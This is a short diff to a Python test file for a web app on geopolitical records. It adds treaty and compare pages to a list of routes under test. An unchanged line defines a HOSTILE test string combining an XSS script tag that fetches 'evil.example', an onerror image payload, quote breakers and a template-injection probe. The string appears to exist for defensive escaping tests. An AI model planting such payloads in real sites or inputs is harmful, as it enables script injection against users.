@@ -30,7 +30,8 @@ from tests.unit.record.press import PUTIN, REPORT, article
 
 PAGES = (
     "/", "/timeline", "/timeline?by=type", "/statements", "/events", "/actors", "/articles", "/network", "/search?q=alliance",
-    "/pairs/CHN-RUS", f"/actors/{PUTIN}", "/actors/RUS",
+    "/pairs/CHN-RUS", f"/actors/{PUTIN}", "/actors/RUS", "/treaties",
+    "/treaties/New START", "/compare/report/trimmed",
 )  # fmt: skip
 HOSTILE = "<script>fetch('http://evil.example')</script><img src=x onerror=alert(1)>\"'{{7*7}}"
 
